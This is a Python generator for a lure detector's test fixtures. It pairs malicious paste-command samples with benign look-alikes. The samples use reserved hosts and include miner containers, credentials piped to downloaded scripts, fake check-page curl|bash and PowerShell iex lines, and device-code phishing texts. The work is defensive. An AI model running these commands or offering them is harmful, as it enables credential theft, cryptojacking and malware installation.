"""Writes tests/data/cases/b17lures.jsonl: the lure techniques BLIND-17 and the known lure gaps
found weak (issue 9), closed by technique, each beside the look-alikes that must stay as they are.

    python tests/data/cases/make_b17lures.py

Deterministic (every variant is a product of fixed lists). Lure hosts are reserved names
(.example, .test, .invalid, documentation IP ranges). No text is copied from a lure collection,
another detector's fixtures or the blind sets. Each line is {id, text, expect, technique,
platform[, source], target}.

Techniques:

- `miner-pool-options`: a miner that names no miner program (a container image such as
  "xm/rig", a renamed copy) known by the pool and wallet options every stratum miner takes,
  as a container's command (docker, podman, nerdctl, kubectl run) or as the pool / user /
  password triple: a warning, and a block when the container is kept running in the
  background (detached, --restart always). Look-alikes: containers published on a port and run
  as a user (-p 8080:80 -u 1000), a mining pool's own server in a container, ssh and mount
  options, a miner run in front of you (a warning, as before).
- `credentials-to-downloaded-program`: a credential file's contents (cloud keys, an SSH private
  key, a kubeconfig, registry and Git tokens) put on the command line of a program downloaded
  and run at that moment (npx/bunx/uvx of an address, curl | sh -s --, bash <(curl)): blocked,
  with a page or without. Look-alikes: a public key passed the same way, a kubeconfig read into
  a secret with nothing downloaded, Vault's documented token header, a version file passed to
  an official installer.
- `shop-named-page`: a page whose registrable name is a shop's (a number run onto the getting
  word: zoom-setup24, notion-app365; or only kinds of software and a getting word:
  vpn-client-setup, pdf-reader-download) handing out a script from another host: blocked.
  Look-alikes: the same page quoting a trusted installer, a tutorial site, a course or a team
  wiki whose names number nothing (devops-bootcamp17), a page named for a kind and no getting
  word, all still warnings or quieter.
- `product-page-elsewhere`: a page named for a product whose text installs that very product
  by name ("Install Quillstack CLI", "Installieren Sie Brightlog") from a host whose name and
  path spell nothing of it: the fake product page's own throwaway host, blocked. Look-alikes:
  the product's own domain, a CDN or a forge named for it (info or a warning as before), the
  product's docs installing ANOTHER tool first, a developer site's article quoting it.
- `check-step-paste` (known gap: a check page whose address names no check serving its own
  script): the text says a security, identity or browser check, or a numbered verification
  step, is completed by pasting a command that runs something (a download into a shell, a
  stranger's repository cloned and started), in English, German and French; or the address
  numbers its check word (/verify2, check3.<domain>): blocked, the page's own host vouching for
  nothing. Look-alikes: the same page and script with neither (information, by design: nothing
  tells it from a project's own install page), a project verifying its release signature, a
  "complete the setup" step, a /verify-sha256 page, an awareness note.
- `clone-build-from-check-page` (known gap: git clone && npm start from a lure page): a
  stranger's repository cloned, installed and started, from a page dressed as a check or a
  shop: blocked. Look-alikes: a team's wiki building its own server's repository (info), a blog
  (a warning, as before), a forge page building its own repository.
- `device-code-excuse-beside-cli` (known gap: an `az login` line before the pretext): a
  CLI's sign-in command line put in front of a device code sold as a shared file, a waiting
  message or invoice, or a threat to the account: blocked. Look-alikes: the CLI's own output
  copied alone, a wiki's az login steps "to access the shared subscription", an awareness note
  quoting the trick.
- `share-text-run-beside-internal` (known gap: the internal-share exception holding for the
  whole command): a public share's text run beside an internal share's own (.corp, .local, .lan,
  .intranet): blocked. Look-alikes: the internal share's text run alone (a warning, as before),
  both shares' files only read.
"""

from __future__ import annotations

from pathlib import Path

from casefile import Book, write  # beside this script (tests/data/cases/make_*.py)

book = Book("b17l")
add = book.add

# ---- miner-pool-options -----------------------------------------------------------------------
# (command, page): a container or renamed program started with a pool and a wallet, kept running
MINERS_KEPT = [
    (
        "docker run -d --restart=always --name kworker registry.tarnfield.test/xm/rig "
        "-o 198.51.100.44:3333 -u 48qWalletTarn",
        "https://www.gpu-lease.example/start",
    ),
    (
        "docker run --detach --restart unless-stopped ghcr.example.invalid/ops/svc:latest "
        "--url pool.hollowmere.test:4444 --user 4Bz.rig01",
        None,
    ),
    (
        "podman run -d --restart=always quay.example.test/base/sysd -o 203.0.113.9:5555 -u "
        "wallet7.w1 -p x",
        "https://free-render-credits.example/linux",
    ),
    (
        "nerdctl run -d --restart always docker.io/brenwick/toolbox -o stratum+tcp://"
        "192.0.2.77:14444 -u 43xyZ",
        None,
    ),
    (
        "sudo docker run -itd --restart=on-failure --name update-agent cr.lockhaven.test/u/a "
        "-o eu.lockhaven.test:7777 -u acct.worker",
        "https://benchmark-your-gpu.example/linux",
    ),
    (
        "docker container run -d --restart=always img.vossridge.invalid/r -o "
        "198.51.100.3:45700 --user 8AbcDwallet",
        "https://www.cloud-gpu-trial.test/quickstart",
    ),
]
for command, page in MINERS_KEPT:
    add("miner-pool-options", command, "malicious", "linux", "terminal", page)

# the same options, in front of you: a warning (as a named miner is)
MINERS_SHOWN = [
    "docker run --rm -it registry.tarnfield.test/xm/rig -o 198.51.100.44:3333 -u 48qWalletTarn",
    "podman run --rm quay.example.test/tools/r --url pool.gpu-lab.test:4444 --user w1",
    "kubectl run rig --image=cr.example.test/x/r --restart=Never -- -o 198.51.100.8:3333 -u w9",
    "./sysupd -o pool.hollowmere.test:3333 -u 4Bz.rig01 -p x",
]
for command in MINERS_SHOWN:
    add("miner-pool-options", command, "suspicious", "linux", "terminal", None)

# look-alikes: containers with ports and users, a pool's own server, options of other programs
NOT_MINERS = [
    "docker run -d --restart unless-stopped -p 8080:80 -u 1000 --name web nginx:1.27",
    "docker run -d --restart=always -p 3333:3333 -p 4000:4000 --name pool "
    "theretromike/miningcore -c /app/config.json",
    "podman run -d --restart=always -p 5432:5432 -e POSTGRES_USER=app -u postgres postgres:16",
    "docker run --rm -it -u $(id -u):$(id -g) -v $PWD:/src -w /src golang:1.23 go build ./...",
    "ssh -o ProxyJump=bastion.corp.example:22 -o User=deploy app01",
    "sudo mount -t nfs -o vers=4,port=2049 files.lan:/export /mnt/files",
    "kubectl get pods -o wide -n monitoring",
    "docker run -d --restart=always --name tunnel cloudflare/cloudflared:latest tunnel run "
    "--token eyJhIjoiZXhhbXBsZSJ9",
]
for command in NOT_MINERS:
    add(
        "miner-pool-options",
        command,
        "not_flagged",
        "linux",
        "terminal",
        "https://docs.example.com/run",
    )

# ---- credentials-to-downloaded-program ------------------------------------------------------
CREDENTIALS = [
    (
        "npx -y https://cdn.tollbridge.invalid/schemakit-2.tgz init --token "
        "$(cat ~/.aws/credentials | base64)",
        "https://www.schemakit-cli.test/getting-started",
    ),
    (
        'curl -fsSL https://get.marrowdale.test/agent.sh | sh -s -- --key "$(cat ~/.ssh/id_ed25519)"',
        "https://docs.marrowdale.test/agent",
    ),
    (
        'bunx https://pkg.fernhollow.example/deployer.tgz --kube "$(base64 -w0 ~/.kube/config)"',
        None,
    ),
    (
        'bash <(curl -s https://i.quaystone.invalid/setup) --gh "$(cat ~/.config/gh/hosts.yml)"',
        "https://quaystone.invalid/onboarding",
    ),
    (
        "uvx --from git+https://git.pellworth.test/tools/sync.git sync --auth "
        "`cat $HOME/.git-credentials`",
        None,
    ),
    (
        'sh -c "$(curl -fsSL https://raw.kestrelmoor.example/i)" -- --npm "$(cat ~/.npmrc)" '
        '--docker "$(cat ~/.docker/config.json | base64)"',
        "https://www.kestrelmoor.example/",
    ),
    (
        "npm exec --yes https://dl.oakhurst.test/cli.tgz -- login --ssh "
        "$(cat ~/.ssh/id_rsa | gzip | base64)",
        None,
    ),
]
for command, page in CREDENTIALS:
    add("credentials-to-downloaded-program", command, "malicious", "any", "terminal", page)

# look-alikes: a public key, a file read with nothing downloaded, Vault's token header, a version
# file handed to an official installer, a tool's own config path named as an option
NOT_CREDENTIALS = [
    (
        'curl -fsSL https://get.marrowdale.test/agent.sh | sh -s -- --pubkey "$(cat ~/.ssh/id_ed25519.pub)"',
        "https://docs.marrowdale.test/agent",
        "info",
    ),
    (
        'kubectl create secret generic kubeconfig --from-literal=config="$(cat ~/.kube/config)"',
        "https://docs.example.com/ci",
        "not_flagged",
    ),
    (
        'curl --header "X-Vault-Token: $(cat ~/.vault-token)" '
        "https://vault.example.com:8200/v1/secret/data/app",
        "https://developer.hashicorp.com/vault/docs/auth/token",
        "not_flagged",
    ),
    (
        "curl -fsSL https://fnm.vercel.app/install | bash -s -- --skip-shell && "
        "fnm install $(cat .nvmrc)",
        "https://github.com/Schniz/fnm",
        "not_flagged",
    ),
    (
        "aws configure list --profile default && cat ~/.aws/config",
        None,
        "not_flagged",
    ),
    (
        'ssh-keygen -lf ~/.ssh/id_ed25519 && echo "$(cat ~/.ssh/id_ed25519.pub)" | pbcopy',
        None,
        "not_flagged",
    ),
]
for command, page, expect in NOT_CREDENTIALS:
    add("credentials-to-downloaded-program", command, expect, "any", "terminal", page)

# ---- shop-named-page ---------------------------------------------------------------------------
SHOP_PAGES = [
    (
        "https://vpn-client-setup24.example/linux",
        "Connect to the company VPN:\nwget -qO- https://files.tarrowby.test/vpn.sh | sudo bash",
        "linux",
    ),
    (
        "https://www.pdf-reader-download.test/mac",
        "curl -fsSL https://cdn.wexcombe.invalid/reader.sh | bash",
        "macos",
    ),
    (
        "https://screen-recorder-setup.example/windows",
        "irm https://static.pollard-lane.test/rec.ps1 | iex",
        "windows",
    ),
    (
        "https://notion-app365.example/download",
        "curl -fsSL https://m4.brisketon.invalid/setup.sh | bash",
        "macos",
    ),
    (
        "https://proxy-client-get.example/",
        "bash <(curl -s https://pkg.oxley-row.test/px.sh)",
        "linux",
    ),
    (
        "https://www.free-vpn-mac24.example/install",
        "curl -sL https://cdn.ardleigh.invalid/client.pkg -o /tmp/c.pkg && "
        "sudo installer -pkg /tmp/c.pkg -target /",
        "macos",
    ),
    (
        "https://obsidian-setup2.test/linux",
        "wget -qO- https://dl.harnwick.example/installer.sh | sudo bash",
        "linux",
    ),
]
for page, command, platform in SHOP_PAGES:
    add("shop-named-page", command, "malicious", platform, "terminal", page)

NOT_SHOP_PAGES = [
    # a trusted installer quoted there is still the vendor's
    (
        "https://vpn-client-setup24.example/linux",
        "curl -fsSL https://tailscale.com/install.sh | sh  # the vendor's own client",
        "info",
    ),
    # a course, a team wiki, a page named for a kind with no getting word: warnings as before
    (
        "https://learn.devops-bootcamp17.example/modules/tools/setup",
        "curl -fsSL https://get.lumenctl.test/install.sh | bash",
        "suspicious",
    ),
    (
        "https://wiki.platform-team42.example/onboarding",
        "curl -fsSL https://get.lumenctl.test/install.sh | bash",
        "suspicious",
    ),
    (
        "https://vpn-client.example/linux",
        "curl -fsSL https://get.lumenctl.test/install.sh | bash",
        "suspicious",
    ),
    (
        "https://k8s-setup.example/posts/cluster",
        "curl -fsSL https://get.lumenctl.test/install.sh | bash",
        "suspicious",
    ),
]
for page, command, expect in NOT_SHOP_PAGES:
    add("shop-named-page", command, expect, "linux", "terminal", page)

# ---- product-page-elsewhere ---------------------------------------------------------------------
PRODUCT_PAGES = [
    (
        "https://www.quillstack-cli.example/docs/install",
        "# Install Quillstack CLI (Windows)\n"
        'powershell -ExecutionPolicy Bypass -c "irm https://r2.dunmore.invalid/install.ps1 | iex"',
        "windows",
    ),
    (
        "https://brightlog.test/docs/getting-started",
        "Install Brightlog:\ncurl -fsSL https://static.ferrowick.example/install.sh | bash",
        "any",
    ),
    (
        "https://www.tidepool-sync.example/",
        '# installing tidepool on macOS\n/bin/bash -c "$(curl -fsSL https://cdn.hexley.test/setup.sh)"',
        "macos",
    ),
    (
        "https://kestrelops.example/download",
        "Download KestrelOps agent for Linux:\nwget -qO- https://a1.pembury.invalid/agent.sh | sudo sh",
        "linux",
    ),
    (
        "https://docs.vantyr.test/cli",
        "Set up vantyr-cli:\nnpx -y https://pkg.maldon-rise.example/v2.tgz init",
        "any",
    ),
    (
        "https://brightlog.test/de/docs",
        "Installieren Sie Brightlog:\ncurl -fsSL https://static.ferrowick.example/install.sh | bash",
        "any",
    ),
]
for page, command, platform in PRODUCT_PAGES:
    add("product-page-elsewhere", command, "malicious", platform, "terminal", page)

NOT_PRODUCT_PAGES = [
    # the product's own domain, a forge account named for it: cleared
    (
        "https://brightlog.test/docs",
        "Install Brightlog:\ncurl -fsSL https://get.brightlog.test/install.sh | bash",
        "info",
    ),
    (
        "https://brightlog.test/docs",
        "Install Brightlog:\n"
        "curl -fsSL https://raw.githubusercontent.com/brightlog-dev/brightlog/main/install.sh | bash",
        "info",
    ),
    # a CDN named for it, the docs installing another tool first, an article quoting it:
    # warnings, as before
    (
        "https://brightlog.test/docs",
        "Install Brightlog:\ncurl -fsSL https://dl.brightlog-cdn.example/install.sh | bash",
        "suspicious",
    ),
    (
        "https://brightlog.test/docs",
        "Install lumenctl first:\ncurl -fsSL https://get.lumenctl.test/install.sh | bash",
        "suspicious",
    ),
    (
        "https://dev.to/mira/brightlog-setup-4kd2",
        "Install Brightlog:\ncurl -fsSL https://static.ferrowick.example/install.sh | bash",
        "suspicious",
    ),
]
for page, command, expect in NOT_PRODUCT_PAGES:
    add("product-page-elsewhere", command, expect, "any", "terminal", page)

# ---- check-step-paste --------------------------------------------------------------------------
CHECK_STEPS = [
    (
        "https://larkspur-media.example/step2",
        "Verification step 2 of 3: open Terminal and paste:\ncurl -fsSL https://larkspur-media.example/x.sh | bash",
        "macos",
    ),
    (
        "https://www.harrowby-news.test/",
        "Complete the security check: paste into Terminal and press Return\n"
        "curl -fsSL https://harrowby-news.test/c | zsh",
        "macos",
    ),
    (
        "https://quenby.example/continue",
        "To finish the browser verification, press Win+X, open PowerShell and paste:\n"
        'powershell -c "irm https://quenby.example/v.ps1 | iex"',
        "windows",
    ),
    (
        "https://larkspur-media.example/weiter",
        "Schließen Sie die Sicherheitsüberprüfung ab: Terminal öffnen und einfügen:\n"
        "curl -fsSL https://larkspur-media.example/c | bash",
        "macos",
    ),
    (
        "https://quenby.example/suite",
        "Vérification de sécurité : ouvrez le Terminal et collez :\n"
        "curl -fsSL https://quenby.example/f.sh | bash",
        "macos",
    ),
    (
        "https://larkspur-media.example/continue",
        "Complete the security check: paste in Terminal\n"
        "git clone https://git.larkspur.example/tools/fixer && cd fixer && npm i && npm start",
        "any",
    ),
    # the address numbers its check word
    (
        "https://larkspur-media.example/verify2",
        "curl -fsSL https://larkspur-media.example/x.sh | bash",
        "any",
    ),
    ("https://check3.quenby.example/", "curl -fsSL https://quenby.example/q.sh | bash", "any"),
    (
        "https://quenby.example/verification1/next",
        "irm https://quenby.example/n.ps1 | iex",
        "windows",
    ),
]
for page, text, platform in CHECK_STEPS:
    add("check-step-paste", text, "malicious", platform, "terminal", page)

NOT_CHECK_STEPS = [
    # nothing in the text or the address tells it from a project's own install page (by design)
    (
        "https://larkspur-media.example/step2",
        "curl -fsSL https://larkspur-media.example/x.sh | bash",
        "info",
    ),
    (
        "https://lumenctl.test/docs/verify-release",
        "To verify the release signature, open PowerShell and paste:\n"
        'Get-FileHash .\\lumenctl.msi; powershell -c "irm https://lumenctl.test/keys.ps1 | iex"',
        "info",
    ),
    (
        "https://lumenctl.test/docs",
        "Complete the setup: paste into your terminal\ncurl -fsSL https://lumenctl.test/install.sh | bash",
        "info",
    ),
    ("https://lumenctl.test/verify-sha256", "curl -fsSL https://lumenctl.test/x.sh | bash", "info"),
    (
        "https://lumenctl.test/docs/v2/install",
        "curl -fsSL https://lumenctl.test/install.sh | bash",
        "info",
    ),
    (
        None,
        'Fake pages say "complete the security check: paste into Terminal" and then run '
        "curl ... | bash. Never paste such a command.",
        "not_flagged",
    ),
]
for page, text, expect in NOT_CHECK_STEPS:
    add("check-step-paste", text, expect, "any", "terminal" if page else "unknown", page)

# ---- clone-build-from-check-page ----------------------------------------------------------------
CLONE_BUILD = [
    (
        "https://verify-session.larkspur-media.example/check",
        "git clone https://git.larkspur.example/tools/fixer && cd fixer && npm i && npm start",
    ),
    (
        "https://quenby.example/verify2",
        "git clone https://code.tarrowby.test/ops/agent.git && cd agent && yarn && yarn start",
    ),
    (
        "https://security-check.harrowby-news.test/",
        "git clone https://git.harnwick.example/r/helper && cd helper && npm install && npm run dev",
    ),
    (
        "https://www.notion-app365.example/download",
        "git clone https://git.brisketon.invalid/n/desktop && cd desktop && pnpm i && pnpm start",
    ),
    (
        "https://quenby.example/anti-bot",
        "git clone https://src.ardleigh.invalid/x/y && cd y && npm i && npm start",
    ),
]
for page, text in CLONE_BUILD:
    add("clone-build-from-check-page", text, "malicious", "any", "terminal", page)

NOT_CLONE_BUILD = [
    (
        "https://wiki.acme-internal.example/onboarding",
        "git clone https://git.acme-internal.example/web/portal && cd portal && npm i && npm run dev",
        "info",
    ),
    (
        "https://larkspur-media.example/blog/post",
        "git clone https://git.larkspur.example/tools/fixer && cd fixer && npm i && npm start",
        "suspicious",
    ),
    (
        "https://github.com/acme-labs/dashboard",
        "git clone https://github.com/acme-labs/dashboard && cd dashboard && npm i && npm run dev",
        "not_flagged",
    ),
]
for page, text, expect in NOT_CLONE_BUILD:
    add("clone-build-from-check-page", text, expect, "any", "terminal", page)

# ---- device-code-excuse-beside-cli --------------------------------------------------------------
CLI_EXCUSES = [
    "az login\nTo sign in, use a web browser to open the page https://microsoft.com/devicelogin "
    "and enter the code QX7PLM2AN to authenticate.\nYour shared invoice is waiting: enter the code "
    "to open it.",
    "$ az login --use-device-code\nA document has been shared with you. To view it, open "
    "https://microsoft.com/devicelogin and enter the code HT4KW9RZB.",
    "gh auth login\nThe contract has been shared with you. Open https://github.com/login/device "
    "and enter 4F2A-91BC to sign it.",
    "PS C:\\> az login --use-device-code\nYour voicemail is waiting: open "
    "https://microsoft.com/devicelogin and enter the code K7PQ2LMXA to play it.",
    "aws sso login --profile finance\nYour mailbox will be suspended today. Open "
    "https://device.sso.eu-west-1.amazonaws.com/ and enter WDLP-KQTX to keep access.",
]
for text in CLI_EXCUSES:
    add(
        "device-code-excuse-beside-cli",
        text,
        "malicious",
        "any",
        "unknown",
        "https://docs-share-portal.example/view",
    )

NOT_CLI_EXCUSES = [
    (
        "az login\nTo sign in, use a web browser to open the page https://microsoft.com/devicelogin "
        "and enter the code QX7PLM2AN to authenticate.",
        None,
    ),
    (
        "Run az login --use-device-code, then open https://microsoft.com/devicelogin and enter the "
        "code it prints (for example FXA7K2LPQ) to access the shared subscription.",
        "https://wiki.contoso-labs.example/azure",
    ),
    (
        'Phishing alert: attackers paste "az login" output and then write "a document has been '
        'shared with you, open https://microsoft.com/devicelogin and enter QX7PLM2AN".',
        None,
    ),
]
for text, page in NOT_CLI_EXCUSES:
    add("device-code-excuse-beside-cli", text, "not_flagged", "any", "unknown", page)

# ---- share-text-run-beside-internal -------------------------------------------------------------
SHARE_BESIDE_INTERNAL = [
    (
        "cmd /c type \\\\fs01.corp\\it\\a.txt | cmd & type \\\\files.tarrowby.test\\p\\b.txt | cmd",
        "terminal",
    ),
    (
        "cmd /c type \\\\files.tarrowby.test\\p\\b.txt | cmd & type \\\\fs01.corp\\it\\a.txt | cmd",
        "run_dialog",
    ),
    (
        'powershell -c "iex (gc \\\\deploy.acme.local\\it\\prep.ps1 -raw); '
        'iex (gc \\\\share.harnwick.example@SSL\\d\\s.txt -raw)"',
        "terminal",
    ),
    (
        "cmd /k type \\\\fs.acme.lan\\it\\x.txt | cmd & cmd /k < \\\\files.example.test@SSL\\d\\p.txt",
        "terminal",
    ),
    (
        "type \\\\fs01.intranet\\it\\a.txt | cmd && type \\\\198.51.100.7\\s\\p.txt | cmd",
        "terminal",
    ),
]
for text, target in SHARE_BESIDE_INTERNAL:
    add(
        "share-text-run-beside-internal",
        text,
        "malicious",
        "windows",
        target,
        "https://wiki.acme.example/it",
    )

NOT_SHARE_BESIDE_INTERNAL = [
    ("cmd /c type \\\\fs01.corp\\it\\a.txt | cmd", "suspicious"),
    (
        "type \\\\fs01.corp\\it\\readme.txt & type \\\\files.tarrowby.test\\p\\notes.txt",
        "not_flagged",
    ),
]
for text, expect in NOT_SHARE_BESIDE_INTERNAL:
    add(
        "share-text-run-beside-internal",
        text,
        expect,
        "windows",
        "terminal",
        "https://wiki.acme.example/it",
    )

CASES = book.cases

if __name__ == "__main__":
    write(Path(__file__).with_name("b17lures.jsonl"), CASES)
